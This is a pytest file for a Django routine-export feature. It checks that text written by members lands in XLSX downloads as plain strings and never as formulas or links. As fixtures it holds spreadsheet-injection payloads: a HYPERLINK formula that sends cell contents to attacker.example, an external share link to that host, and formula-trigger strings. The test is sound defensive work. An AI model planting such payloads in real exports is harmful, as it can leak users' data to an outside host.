"""Downloads made from what members and editors wrote."""

import io

import pytest
from openpyxl import load_workbook

from plans.exports import XLSX_HEADER_ROW, describe, render_xlsx
from tests.plans.factories import RoutineFactory, RoutineItemFactory, SessionFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://attacker.example/?d="&A5,"Open")'
FILE_LINK = r"external:\\attacker.example\share"


def test_text_a_member_wrote_downloads_as_text_never_as_a_formula_or_a_link(user):
    routine = RoutineFactory(owner=user, name=FORMULA)
    session = SessionFactory(routine=routine, name=FILE_LINK)
    RoutineItemFactory(session=session, load="+1+1", notes="@SUM(A1:A9)", sets=3)

    sheet = load_workbook(io.BytesIO(render_xlsx(describe(routine))))["Routine"]

    first = XLSX_HEADER_ROW + 2  # openpyxl counts from 1; the first exercise row
    written = {
        "title": sheet.cell(1, 1),
        "session": sheet.cell(first, 1),
        "load": sheet.cell(first, 6),
        "cue": sheet.cell(first, 8),
    }
    assert {name: cell.data_type for name, cell in written.items()} == dict.fromkeys(written, "s")
    assert all(cell.hyperlink is None for row in sheet.iter_rows() for cell in row)
    assert {name: cell.value for name, cell in written.items()} == {
        "title": "'" + FORMULA,
        "session": FILE_LINK,
        "load": "'+1+1",
        "cue": "'@SUM(A1:A9)",
    }
    assert sheet.cell(first, 3).value == 3
